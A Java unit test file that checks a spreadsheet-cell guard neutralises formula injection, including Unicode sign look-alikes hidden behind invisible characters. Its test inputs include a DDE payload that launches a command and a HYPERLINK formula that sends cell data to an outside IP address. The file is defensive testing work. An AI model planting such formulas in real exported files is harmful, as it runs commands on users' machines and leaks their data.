package dev.firebreak.core.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What spreadsheets take for formulas, and what they must be left alone with. */
class SpreadsheetCellTest {

    private static final List<String> SIGNS = List.of(
            "=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\u2212", "\uFE62", "\uFE63", "\uFE66",
            "\uFE6B", "\u207A", "\u207B", "\u207C", "\u208A", "\u208B", "\u208C");

    /** Nothing, blanks, tab, line ends, no-break, ideographic, zero width, marks of order and direction, a filler. */
    private static final List<String> BEFORE = List.of(
            "",
            " ",
            "   ",
            "\t",
            "\r",
            "\n",
            "\r\n\t ",
            "\u00A0",
            "\u3000",
            "\u2003",
            "\u200B",
            "\u200E",
            "\u202E",
            "\u2060",
            "\uFEFF",
            "\u0000",
            "\u000B",
            "\u0085",
            "\u2028",
            "\u3164",
            " \u200B\t\u00A0");

    private static final List<String> REST =
            List.of("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://192.0.2.1/?\"&A1)", "SUM(1)", "");

    @Test
    void every_sign_after_anything_that_is_dropped_is_text() {
        for (String sign : SIGNS) {
            for (String before : BEFORE) {
                for (String rest : REST) {
                    String cell = before + sign + rest;
                    assertThat(SpreadsheetCell.guarded(cell)).as(escaped(cell)).isEqualTo("'" + cell);
                    assertThat(SpreadsheetCell.csv(cell)).as(escaped(cell)).matches("(?s)\"?'.*");
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "PC-1",
                "PC=1",
                "",
                " ",
                "a@b",
                "–",
                "ー号機",
                "１号機",
                "'=1",
                "(=1)",
                "KB4012212",
                "10.1.2.3",
                "_=1",
                "#1"
            })
    void everything_else_is_left_as_it_is(String cell) {
        assertThat(SpreadsheetCell.guarded(cell)).isEqualTo(cell);
    }

    @Test
    void a_guarded_text_is_not_guarded_again() {
        String once = SpreadsheetCell.guarded(" \uFF1D1");
        assertThat(SpreadsheetCell.guarded(once)).isEqualTo(once);
    }

    @Test
    void a_field_is_quoted_where_any_separator_or_blank_stands() {
        assertThat(SpreadsheetCell.csv("a,b")).isEqualTo("\"a,b\"");
        assertThat(SpreadsheetCell.csv("a;b")).isEqualTo("\"a;b\"");
        assertThat(SpreadsheetCell.csv("a\tb")).isEqualTo("\"a\tb\"");
        assertThat(SpreadsheetCell.csv("a\nb")).isEqualTo("\"a\nb\"");
        assertThat(SpreadsheetCell.csv("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(SpreadsheetCell.csv(" a")).isEqualTo("\" a\"");
        assertThat(SpreadsheetCell.csv("plain")).isEqualTo("plain");
    }

    private static String escaped(String text) {
        var out = new StringBuilder();
        text.chars().forEach(c -> out.append(c > 0x20 && c < 0x7F ? "" + (char) c : "\\u%04X".formatted(c)));
        return out.toString();
    }
}
